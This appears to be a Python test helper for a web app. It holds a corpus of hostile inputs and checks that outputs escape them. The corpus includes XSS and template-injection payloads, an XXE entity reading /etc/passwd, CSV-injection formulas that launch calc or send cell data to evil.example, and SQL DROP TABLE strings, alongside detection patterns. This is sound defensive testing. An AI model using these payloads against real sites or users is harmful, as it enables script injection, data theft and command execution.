"""Hostile input: what people may type (by mistake or not) into any free-text field, in one
place, and the checks that an output shows it as text and runs none of it.

Each entry has an id (for messages) and a kind:
- "markup": tries to become HTML, CSS, script, a template, XML or a spreadsheet formula;
- "text": ordinary text that breaks naive code (Unicode, quotes, SQL, newlines);
- "blank": empty or only spaces (refused where a field is required);
- "nul": holds a NUL character (every form refuses it with a 400, in marks/errors.py).
Long text, exactly at a field's limit and one character over it, comes from `long_text`.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from dataclasses import dataclass

import sqlalchemy as sa
from bs4 import BeautifulSoup
from defusedxml import ElementTree

from marks.awarding.badges import NOT_XML
from marks.extensions import db
from marks.models import Email
from marks.reporting.exports import FORMULA_STARTS
from tests.pages import Page, PageClient


@dataclass(frozen=True)
class Hostile:
    id: str
    text: str
    kind: str = "markup"

    def __str__(self) -> str:
        return self.id


CORPUS: tuple[Hostile, ...] = (
    # HTML and script
    Hostile("script", "<script>alert('XSS')</script>"),
    Hostile("img-onerror", '"><img src=x onerror=alert(1)>'),
    Hostile("attribute-single-quote", "' autofocus onfocus='alert(1)' x='"),
    Hostile("svg-onload", "<svg/onload=alert(1)>"),
    Hostile("javascript-url", "javascript:alert(document.cookie)"),
    Hostile("javascript-link", '<a href="javascript:alert(1)">Click me</a>'),
    Hostile("iframe", '<iframe src="https://evil.example/"></iframe>'),
    Hostile("textarea-breakout", "</textarea><script>alert(1)</script>"),
    Hostile("title-breakout", "</title><base href=//evil.example/>"),
    Hostile("comment", "<!-- hidden --><!--"),
    # CSS
    Hostile("css-breakout", "</style><style>body{display:none}</style>"),
    Hostile("css-url", "x{background:url(javascript:alert(1))} url('https://evil.example/x.png')"),
    # Templates
    Hostile("jinja", "{{ 7*7 }} {% if 1 %}forty-nine{% endif %} ${7*7} #{7*7}"),
    Hostile("jinja-globals", "{{ config.SECRET_KEY }}{{ self.__init__.__globals__ }}"),
    # XML
    Hostile("entities", "&amp; &lt;b&gt; &#x3C;script&#x3E; &nbsp; &copy"),
    Hostile("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Hostile("doctype", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;'),
    # Spreadsheet formulas (CSV injection)
    Hostile("formula-hyperlink", '=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
    Hostile("formula-plus", "+1+cmd|' /C calc'!A0"),
    Hostile("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    Hostile("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("formula-tab", "\t=1+1"),
    Hostile("formula-cr", "\r=1+1"),
    # SQL and search syntax
    Hostile("sql", "'; DROP TABLE users; --", "text"),
    Hostile("sql-or", "' OR '1'='1' /*", "text"),
    Hostile("like-wildcards", "100% _match_ \\ ESCAPE", "text"),
    Hostile("quotes", 'O\'Brien "the" `back` council', "text"),
    # Unicode
    Hostile("rtl-override", "Council \u202egnp.exe\u202c done", "text"),
    Hostile("zero-width", "Zero\u200bwidth\u200djoiner\ufeffbom", "text"),
    Hostile("combining", "Z\u0336\u0327a\u0337l\u0338g\u0334o\u0335 text", "text"),
    Hostile(
        "emoji",
        "\U0001f469\U0001f3fd\u200d\U0001f4bb Council \U0001f3f4\U000e0067\U000e0062"
        "\U000e0077\U000e006c\U000e0073\U000e007f",
        "text",
    ),
    Hostile("astral", "\U0001d56e\U0001d594\U0001d59a \U00010348 \U0002070e", "text"),
    Hostile("nfc", unicodedata.normalize("NFC", "Caf\u00e9 Ynys M\u00f4n"), "text"),
    Hostile("nfd", unicodedata.normalize("NFD", "Caf\u00e9 Ynys M\u00f4n"), "text"),
    Hostile("newlines", "line one\nline two\r\nline three", "text"),
    Hostile("control", "bell\x07 escape\x1b[31m vt\x0b ff\x0c end", "text"),
    # Nothing at all
    Hostile("empty", "", "blank"),
    Hostile("spaces", "   ", "blank"),
    Hostile("whitespace", "\t \n \u00a0 \u2003", "blank"),
    # NUL
    Hostile("nul", "before\x00after", "nul"),
)

TYPED = tuple(h for h in CORPUS if h.kind in ("markup", "text"))  # stored where a field allows
BLANK = tuple(h for h in CORPUS if h.kind == "blank")
NUL = next(h for h in CORPUS if h.kind == "nul")
FORMULAS = tuple(h for h in CORPUS if h.id.startswith("formula-"))
EVERY = tuple(h.text for h in TYPED)
BLANKS = tuple(h.text for h in BLANK)


def by_id(id: str) -> Hostile:
    return next(h for h in CORPUS if h.id == id)


def long_text(length: int) -> str:
    """Hostile text of exactly `length` characters (code points, as the forms count them),
    astral ones included."""
    piece = "<script>alert(1)</script>\U0001f600 "
    return (piece * (length // len(piece) + 1))[:length]


def packed(limit: int, entries: tuple[Hostile, ...] = TYPED) -> list[str]:
    """The entries in as few texts as fit in `limit` characters (one longer than that is cut
    to it), each spreadsheet formula at the start of a text of its own, as a CSV cell would
    start: the whole corpus through a one-line field in a few records, not one per entry."""
    texts = [h.text[:limit] for h in entries if h in FORMULAS]
    for hostile in (h for h in entries if h not in FORMULAS):
        text = hostile.text[:limit]
        room = next((i for i, t in enumerate(texts) if len(t) + 1 + len(text) <= limit), None)
        if room is None:
            texts.append(text)
        else:
            texts[room] += " " + text
    return texts


def combined(entries=None) -> str:
    """Several entries in one text, one a line, a formula first (for a textarea that takes a
    few thousand characters, and for a CSV cell that starts like a formula)."""
    entries = TYPED if entries is None else entries
    first = by_id("formula-hyperlink")
    return "\n".join(h.text for h in [first, *(h for h in entries if h != first)])


def one_line(text: str) -> str:
    """Whitespace collapsed, as a page's text is compared."""
    return " ".join(text.split())


# --- Checks on outputs ------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset"}
NEVER = {"style", "iframe", "object", "embed", "base", "frame", "frameset", "applet"}
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data:text/html|data:image/svg)", re.I)
# Characters a browser ignores in a URL's scheme ("java\tscript:" is still javascript:).
IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f]+")
DANGEROUS_STYLE = re.compile(r"url\(|expression|javascript|display\s*:\s*none|@import", re.I)


def soup_of(markup: str) -> BeautifulSoup:
    return BeautifulSoup(markup, "html.parser")


def injections(soup: BeautifulSoup, *, nonced_scripts: bool = True) -> list[str]:
    """What in this HTML is not the app's own markup: an event handler, a script without the
    page's nonce (or not the app's own file), an element the app never makes, a URL that runs
    script, CSS that hides or fetches. Empty if there is none."""
    found = []
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value or ""
            if name.lower().startswith("on"):
                found.append(f"<{tag.name} {name}=...> (an event handler)")
            if name.lower() in URL_ATTRIBUTES and DANGEROUS_SCHEME.match(
                IGNORED_IN_SCHEME.sub("", value)
            ):
                found.append(f"<{tag.name} {name}={value!r}>")
            if name.lower() == "style" and DANGEROUS_STYLE.search(value):
                found.append(f"<{tag.name} style={value!r}>")
        if tag.name == "script":
            own = tag.get("src", "").startswith("/static/") or (nonced_scripts and tag.get("nonce"))
            if not own:
                found.append(f"a script that is not the app's own: {tag}")
        if tag.name in NEVER:
            found.append(f"a <{tag.name}> element")
        if tag.name == "img" and not tag.get("src", "").startswith(
            ("/", "http://marks.test/", "data:image/png")
        ):
            found.append(f"an image from elsewhere: {tag}")
        if tag.name == "form" and not tag.get("action", "").startswith(("/", "?", "#")):
            found.append(f"a form that posts elsewhere: {tag.get('action')!r}")
        if tag.name == "meta" and tag.find_parent("head") is None:
            found.append(f"a <meta> outside the head: {tag}")
    return found


def assert_no_injection(markup: str | BeautifulSoup, where: str) -> None:
    soup = soup_of(markup) if isinstance(markup, str) else markup
    found = injections(soup)
    assert not found, f"{where}: {found}"


def assert_shown(text: str, shown: str, where: str) -> None:
    """`text` appears, as text, in `shown` (a page's text, whitespace collapsed)."""
    assert one_line(text) in one_line(shown), f"{where}: {text!r} is not shown as typed"


# --- Filling in forms, and reading every kind of output back ----------------------------------

ATOM = "{http://www.w3.org/2005/Atom}"


def send(client: PageClient, url: str, data: dict):
    """Post a form with this session's CSRF token (read once from a page, as the browser
    keeps it), without fetching the form again."""
    token = getattr(client, "token", None) or client.csrf_token()
    client.token = token
    return client.post(url, data={"csrf_token": token, **data})


def checked(page, where: str, *texts: str) -> Page:
    """An HTML page (never a 500) with nothing injected, showing each text as typed."""
    assert isinstance(page, Page), f"{where}: not an HTML page ({page.status_code})"
    assert page.status < 500, f"{where}: {page.status}"
    assert_no_injection(page.soup, where)
    for text in texts:
        assert_shown(text, page.text, where)
    return page


def refused(page, where: str, values: dict[str, str], says: str | None = None) -> Page:
    """The form said what is wrong (`says`, if given), and kept everything typed, shown as
    typed."""
    checked(page, where)
    assert page.error_summary(), f"{where}: no error"
    assert says is None or says in page.error_summary(), f"{where}: {page.error_summary()}"
    for name, value in values.items():
        assert page.field_value(name) == value, f"{where}: {name} not kept as typed"
    return page


def refused_with_nul(client: PageClient, url: str, data: dict) -> None:
    """A NUL anywhere in a form is a clear 400: the service's error page, not a 500."""
    page = send(client, url, data)
    assert page.status == 400, f"{url}: {page.status}"
    assert page.h1 == "Sorry, there is a problem with your request", url


def emails(template: str, to: str | None = None) -> list[Email]:
    query = sa.select(Email).where(Email.template == template).order_by(Email.id)
    if to:
        query = query.where(Email.to_address == to)
    return list(db.session.scalars(query))


def check_email(email: Email, *texts: str) -> None:
    """The plain text holds each text literally; the HTML part (if any) escapes it."""
    where = f"{email.template} to {email.to_address}"
    for text in texts:
        assert text in email.body_text, f"{where}: {text!r} not in the text as typed"
    if email.body_html:
        soup = soup_of(email.body_html)
        assert_no_injection(soup, f"{where} (HTML)")
        for text in texts:
            assert_shown(text, soup.get_text(" "), f"{where} (HTML)")


def csv_records(response) -> list[dict[str, str]]:
    """The CSV's records; no cell may be one that a spreadsheet would run."""
    text = response.get_data(as_text=True)
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    for record in records:
        live = [value for value in record.values() if value and value.startswith(FORMULA_STARTS)]
        assert not live, f"a CSV cell a spreadsheet would run: {live}"
    return records


def audit_csv(client: PageClient) -> list[dict[str, str]]:
    return csv_records(client.get("/admin/audit.csv"))


def header_text(text: str) -> str:
    """The text as an email's subject carries it: one line, without control characters."""
    return "".join(c for c in " ".join(text.split()) if unicodedata.category(c) != "Cc")


def xml_text(text: str) -> str:
    """The text as XML can carry it: without the control characters XML 1.0 forbids."""
    return NOT_XML.sub("", text)


def atom_entries(client: PageClient, query: str = "") -> dict[str, str]:
    """The feed's entries as {title: summary}, whitespace collapsed; it must be well-formed."""
    feed = ElementTree.fromstring(client.get(f"/register.atom{query}").data)
    return {
        one_line(entry.find(f"{ATOM}title").text): one_line(entry.find(f"{ATOM}summary").text)
        for entry in feed.iter(f"{ATOM}entry")
    }


def as_printed(text: str) -> str:
    """The text as a PDF reader takes it off the page: in the order it is seen (a right-to-
    left override reverses what follows it), without invisible formatting characters
    (zero-width ones, tags), without control characters (a certificate leaves out what XML
    1.0 cannot hold: its metadata must stay XML to be signed), and without whitespace (lines
    wrap anywhere)."""
    head, override, tail = text.partition("\u202e")
    if override:
        shown, _, rest = tail.partition("\u202c")
        text = head + shown[::-1] + rest
    visible = "".join(c for c in text if unicodedata.category(c) not in ("Cf", "Cc"))
    return "".join(visible.split())
